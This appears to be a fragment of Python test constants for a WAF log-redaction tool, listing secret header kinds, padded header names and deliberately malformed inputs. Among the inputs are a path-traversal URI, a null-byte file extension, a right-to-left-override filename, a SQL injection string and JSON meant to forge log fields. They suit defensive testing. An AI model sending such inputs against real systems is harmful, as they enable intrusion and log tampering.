URL_SECRET_KINDS: Final = frozenset({"referer", "userinfo"})  # the header's name is not what is secret
SECRET_KINDS: Final = (("bearer", 22), ("cookie", 16), ("apikey", 10), ("proxy", 3), ("token", 3),
                       ("csrf", 2), ("sts", 1), ("referer", 2), ("userinfo", 1), ("inserted", 3), ("pair", 1))
# Headers inserted by custom request handling, logged with WAF's prefix; doubled when the configured
# name already carried it.
INSERTED_SECRET_NAMES: Final = ("x-amzn-waf-authorization", "x-amzn-waf-x-api-key", "x-amzn-waf-x-auth-token",
                                "x-amzn-waf-x-amzn-waf-authorization")
# Names as clients and proxies mangle them (rare): padded with spaces, tabs or NUL.
NAME_PADDINGS: Final = ((" ", ""), ("", " "), ("\t", ""), ("", "\t"), ("\x00", ""), ("", "\x00"),
                        (" ", "\x00"), ("\t", " "))
# Attackers choose header names, paths and agents: dots, "$", spaces, unicode, 300 characters, JSON.
ODD_HEADER_NAMES: Final = ("x.forwarded.host", "$where", "X Custom Header", "x-ünïcødé-ключ-名前",
                           "x-" + "a" * 298, 'x-"quoted"', "x-back\\slash")
ODD_URIS: Final = ('/api/}{"injected":true}', '/search/\\"quoted\\"', "/files/..\\..\\windows\\win.ini",
                   "/download/report.pdf%00.jpg", "/café/naïve/日本語/😀", "/%E2%80%AE/gpj.exe",
                   f"http://deploy:{_S}@10.0.12.7:8080/manager/html")  # an absolute-form (proxy) request
ODD_ARGS: Final = ("q=" + "A" * 4096, "filter=" + "%27%20OR%201%3D1--" * 240, 'x=}{&y=\\"&z=%00')
ODD_USER_AGENTS: Final = ('Mozilla/5.0 "quoted" (compatible; {"name":"authorization","value":"x"})',
                          'curl/8.5.0 \\"escaped\\" \\\\', '}{"timestamp":0,"action":"ALLOW"}',
                          "Mozilla/5.0 (X11; Linux x86_64) \u2603 \u202e")
# fmt: on
